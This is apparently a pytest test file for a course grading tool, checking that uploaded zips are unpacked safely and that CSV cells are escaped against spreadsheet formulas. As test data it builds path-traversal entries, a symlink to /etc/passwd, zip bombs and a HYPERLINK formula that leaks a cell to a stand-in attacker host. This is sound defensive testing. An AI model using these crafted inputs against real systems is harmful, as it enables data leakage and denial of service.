"""Input that cannot hurt the grader (issue 32, item 3): zips read streamed and bounded, results
written as each student finishes, spreadsheet-safe CSV cells, one row per student.

Most tests here replace the per-student process by a stub (run_submission), so they take no time;
test_grade.py grades real submissions.
"""
from __future__ import annotations

import csv
import os
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from lab.grading import grade as grade_module
from lab.grading.grade import find_submissions, grade, main
from lab.grading.submission import unpack, verify
from lab.grading.unzip import Limits, UnsafeZip, chunks

ROOT = Path(__file__).resolve().parents[1]
NAME = "03_histogram_losses_and_bin_width"
MB = 2**20


def _zeros_zip(path: Path, megabytes: int, name: str = "histograms.py") -> Path:
    """A zip of one entry of ``megabytes`` MB of zeros, written a MB at a time (deflate packs it ~1000x)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        with zf.open(name, "w", force_zip64=True) as f:
            block = bytes(MB)
            for _ in range(megabytes):
                f.write(block)
    return path


def _zip(path: Path, entries: dict) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)  # a name or a ZipInfo
    return path


def _symlink_entry(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3  # unix: the high bits of external_attr are a st_mode
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


# --------------------------------------------------------------------------------------- zips
@pytest.mark.parametrize("entries, phrase", [
    ({"../evil.py": "x = 1\n"}, "points outside its folder"),
    ({"/etc/evil.py": "x = 1\n"}, "points outside its folder"),
    ({"..\\evil.py": "x = 1\n"}, "points outside its folder"),
    ({"C:evil.py": "x = 1\n"}, "points outside its folder"),
    ({_symlink_entry("histograms.py"): "/etc/passwd"}, "is a symbolic link"),
    ({f"f{i}.py": "" for i in range(201)}, "201 entries, over the limit of 200"),
], ids=["dotdot", "absolute", "backslash", "drive", "symlink", "entries"])
def test_unpack_refuses_paths_out_links_and_too_many_entries(tmp_path, entries, phrase):
    path = _zip(tmp_path / "alice.zip", entries)
    (tmp_path / "work").mkdir()
    with pytest.raises(UnsafeZip, match=phrase):
        unpack(path, tmp_path / "work")
    assert list((tmp_path / "work").iterdir()) == [] and not (tmp_path / "evil.py").exists()


def test_unpack_stops_an_entry_by_its_ratio_and_the_total_by_its_limit(tmp_path):
    """Declared sizes within the limit: the bytes are counted as they come out."""
    bomb = _zeros_zip(tmp_path / "bomb.zip", 8)  # 8 MB of zeros: under 50 MB, ~1000x
    (tmp_path / "work").mkdir()
    with pytest.raises(UnsafeZip, match="expands more than 200x its compressed size"):
        unpack(bomb, tmp_path / "work")
    with zipfile.ZipFile(bomb) as zf, pytest.raises(UnsafeZip, match="unpacks to more than 3 MB"):
        for _ in chunks(zf, zf.infolist()[0], "bomb.zip", Limits(max_bytes=3 * MB, max_ratio=1e9)):
            pass  # the headers' sizes are checked first; the stream is counted again, should they lie
    with pytest.raises(UnsafeZip, match="would unpack to 8 MB, over the 2 MB limit"):
        verify(bomb, Limits(max_bytes=2 * MB))
    assert [p.name for p in (tmp_path / "work").iterdir()] == []  # no half-written module


def test_unpack_keeps_the_flat_modules_and_notebooks(tmp_path):
    path = _zip(tmp_path / "alice.zip", {"histograms.py": "x = 1\n", "bin_width.ipynb": "{}", "notes.txt": "",
                                          ".hidden.py": "", "sub/deep.py": ""})
    (tmp_path / "work").mkdir()
    assert sorted(unpack(path, tmp_path / "work")) == ["bin_width.ipynb", "histograms.py"]
    assert sorted(p.name for p in (tmp_path / "work").iterdir()) == ["bin_width.ipynb", "histograms.py"]


GRADE_AND_MEASURE = """
import resource, sys
from lab.grading.grade import main
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
main(sys.argv[1:])
print("PEAK_KB_GROWTH", resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""


@pytest.mark.slow
def test_a_zip_bomb_is_refused_with_the_student_and_the_limit_and_the_grader_stays_small(tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    bomb = _zeros_zip(subs / "mallory.zip", 1536)  # 1.5 GiB of zeros
    assert bomb.stat().st_size < 2 * MB
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(ROOT), os.environ.get("PYTHONPATH")]))}
    done = subprocess.run([sys.executable, "-c", GRADE_AND_MEASURE, str(subs), "-o", str(tmp_path / "out" / "g.csv"),
                           "--assignment", NAME], capture_output=True, text=True, env=env, cwd=tmp_path)
    assert done.returncode == 0, done.stderr[-2000:]
    growth_mb = int(done.stdout.split("PEAK_KB_GROWTH")[1]) / 1024  # ru_maxrss is in KB on Linux
    assert growth_mb < 64, f"the grader's peak memory grew by {growth_mb:.0f} MB while refusing the bomb"
    row = next(line for line in done.stdout.splitlines() if line.startswith("mallory"))
    assert "refused: mallory.zip would unpack to 1536 MB, over the 50 MB limit" in row


# ------------------------------------------------------------------- the batch, with a stub grader
def _students(folder: Path, *names: str) -> Path:
    for name in names:
        (folder / name).mkdir(parents=True)
        (folder / name / "histograms.py").write_text("x = 1\n")
    return folder


class _Stub:
    """run_submission without processes: every test passes, or fails with ``messages[student]``;
    ``crash_at`` raises KeyboardInterrupt there once (the instructor's Ctrl-C, a killed grader)."""

    def __init__(self, messages: dict = (), crash_at: str = "", fail_at: str = ""):
        self.messages, self.crash_at, self.fail_at, self.calls = dict(messages), crash_at, fail_at, []

    def __call__(self, sub, tests, timeout, limits, *, sandbox=True, memory=None):
        from lab.grading.grade_sheet import StudentResult, TestResult

        self.calls.append(sub.student)
        if sub.student == self.crash_at:
            self.crash_at = ""
            raise KeyboardInterrupt
        if sub.student == self.fail_at:  # the grader's own trouble (a full disk): "not graded", retried later
            raise OSError("No space left on device")
        message = self.messages.get(sub.student, "passed")
        status = "passed" if message == "passed" else "failed"
        return StudentResult(sub.student, sub.assignment.name, [
            TestResult(sub.student, sub.assignment.name, t["cell"], t["function"], t["points"] * (status == "passed"),
                       t["points"], status, 0.0, message) for t in tests], 0.0, [])


def _column(path: Path, name: str) -> list[str]:
    with open(path, newline="", encoding="utf-8-sig") as f:
        return [row[name] for row in csv.DictReader(f)]


@pytest.fixture
def stub(monkeypatch):
    def install(**kwargs) -> _Stub:
        fake = _Stub(**kwargs)
        monkeypatch.setattr(grade_module, "run_submission", fake)
        return fake
    return install


def test_students_are_in_natural_order(tmp_path, stub):
    stub()
    subs = _students(tmp_path / "subs", "s10", "s9", "S1", "s100", "s2b", "s2a")
    assert [s.student for s in find_submissions(subs, NAME)] == ["S1", "s2a", "s2b", "s9", "s10", "s100"]
    grade(subs, tmp_path / "out" / "g.csv", assignment=NAME)
    assert _column(tmp_path / "out" / "g_totals.csv", "student") == ["S1", "s2a", "s2b", "s9", "s10", "s100"]


def test_cells_a_spreadsheet_would_run_are_escaped(tmp_path, stub):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    stub(messages={"alice": formula, "bob": "+1 point", "carol": "-x", "dave": "@SUM(A1)", "erin": "\tx",
                   "frank": "fine = good"})
    subs = _students(tmp_path / "subs", "alice", "bob", "carol", "dave", "erin", "frank", "=cmd")
    grade(subs, tmp_path / "g.csv", assignment=NAME)
    feedback = dict(zip(_column(tmp_path / "g.csv", "student"), _column(tmp_path / "g.csv", "feedback")))
    assert feedback["alice"] == "'" + formula and feedback["bob"] == "'+1 point" and feedback["carol"] == "'-x"
    assert feedback["dave"] == "'@SUM(A1)" and feedback["frank"] == "fine = good"
    assert feedback["'=cmd"] == "passed"  # a student name is a cell too
    assert "'=cmd" in _column(tmp_path / "g_totals.csv", "student")
    assert formula in (tmp_path / "g_feedback" / "alice.txt").read_text()  # the feedback file keeps the text


def test_excel_writes_a_bom_and_the_default_does_not(tmp_path, stub):
    stub(messages={"alice": "rank ≥ 1 — ⁺"})
    subs = _students(tmp_path / "subs", "alice")
    grade(subs, tmp_path / "plain" / "g.csv", assignment=NAME)
    grade(subs, tmp_path / "excel" / "g.csv", assignment=NAME, excel=True)
    for name in ("g.csv", "g_totals.csv"):
        assert not (tmp_path / "plain" / name).read_bytes().startswith(b"\xef\xbb\xbf")
        assert (tmp_path / "excel" / name).read_bytes().startswith(b"\xef\xbb\xbf")
    assert "rank ≥ 1 — ⁺" in (tmp_path / "excel" / "g.csv").read_text(encoding="utf-8-sig")


def test_a_crash_mid_batch_loses_nothing_and_a_rerun_resumes(tmp_path, stub, capsys):
    subs = _students(tmp_path / "subs", "s1", "s2", "s9", "s10", "s11")
    out = tmp_path / "out" / "g.csv"
    first = stub(crash_at="s9", fail_at="s2")
    with pytest.raises(KeyboardInterrupt):
        grade(subs, out, assignment=NAME)
    assert first.calls == ["s1", "s2", "s9"]  # nothing started after the crash
    assert _column(out.with_name("g_totals.csv"), "student") == ["s1", "s2"]  # written as each finished
    assert _column(out.with_name("g_totals.csv"), "status") == ["complete", "not graded"]
    assert sorted(p.name for p in out.with_name("g_feedback").iterdir()) == ["s1.txt", "s2.txt"]
    again = stub()
    done = grade(subs, out, assignment=NAME)
    assert again.calls == ["s2", "s9", "s10", "s11"] and [r.student for r in done] == again.calls
    assert "resuming" in capsys.readouterr().err
    assert _column(out.with_name("g_totals.csv"), "student") == ["s1", "s2", "s9", "s10", "s11"]
    assert set(_column(out.with_name("g_totals.csv"), "status")) == {"complete"}
    assert _column(out, "student") == [s for s in ["s1", "s2", "s9", "s10", "s11"] for _ in range(2)]
    third = stub()
    grade(subs, out, assignment=NAME, regrade=True)
    assert third.calls == ["s1", "s2", "s9", "s10", "s11"]


def test_grades_of_another_batch_or_of_the_instructor_are_not_overwritten(tmp_path, stub, capsys):
    stub()
    _students(tmp_path / "week1", "alice")
    _students(tmp_path / "week2", "bob")
    out = tmp_path / "g.csv"
    grade(tmp_path / "week1", out, assignment=NAME)
    before = out.read_bytes()
    capsys.readouterr()
    for extra in ([], ["--assignment", NAME]):
        with pytest.raises(SystemExit) as info:
            main([str(tmp_path / "week2"), "-o", str(out), *extra])
        err = capsys.readouterr().err
        assert info.value.code == 2 and err.count("\n") == 1 and "made by another batch" in err and "--regrade" in err
    assert out.read_bytes() == before
    hand_made = tmp_path / "mine.csv"
    hand_made.write_text("student,points\nalice,9\n")
    with pytest.raises(ValueError, match="not by this batch"):
        grade(tmp_path / "week2", hand_made, assignment=NAME)
    assert hand_made.read_text() == "student,points\nalice,9\n"
    grade(tmp_path / "week2", out, assignment=NAME, regrade=True)
    assert _column(tmp_path / "g_totals.csv", "student") == ["bob"]


def test_ctrl_c_is_one_line_saying_the_same_command_resumes(tmp_path, stub, capsys):
    stub(crash_at="s2")
    subs = _students(tmp_path / "subs", "s1", "s2")
    with pytest.raises(SystemExit) as info:
        main([str(subs), "-o", str(tmp_path / "g.csv"), "--assignment", NAME])
    err = capsys.readouterr().err.splitlines()[-1]
    assert info.value.code == 130 and "interrupted" in err and "the same command resumes" in err
    assert _column(tmp_path / "g_totals.csv", "student") == ["s1"]
